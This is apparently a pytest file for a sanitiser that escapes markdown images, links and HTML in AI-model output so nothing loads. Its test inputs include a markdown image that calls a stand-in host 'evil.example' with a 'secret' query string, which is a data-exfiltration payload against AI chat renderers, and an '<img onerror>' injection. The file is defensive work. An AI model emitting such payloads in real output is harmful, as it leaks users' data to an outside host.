"""A caller can make a model write anything: nothing in its document loads or leads anywhere."""

import pytest

from shared.vendors.openai.markdown import without_links


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("![x](https://evil.example/?q=secret)", r"!\[x\](https://evil.example/?q=secret)"),
        ("[here](https://evil.example)", r"\[here\](https://evil.example)"),
        ("[x]: https://evil.example", r"\[x\]: https://evil.example"),
        ("<img src=x onerror=y>", r"\<img src=x onerror=y\>"),
        ("<https://evil.example>", r"\<https://evil.example\>"),
        (r"\[x](y)", r"\[x\](y)"),
        (r"\\[x](y)", r"\\\[x\](y)"),
        (
            "## Decisions\n\n- **Call** back\n- `a | b`",
            "## Decisions\n\n- **Call** back\n- `a | b`",
        ),
        ("| a | b |\n|---|---|", "| a | b |\n|---|---|"),
        ("> said\n> > twice > once", "> said\n> > twice \\> once"),
        (">[x](y)", r">\[x\](y)"),
        ("\\" * 5, "\\" * 5),
    ],
)
def test_images_links_and_html_become_text(written: str, kept: str) -> None:
    assert without_links(written) == kept


def test_backslashes_without_end_are_read_once() -> None:
    assert len(without_links("\\" * 200_000 + "x")) == 200_001
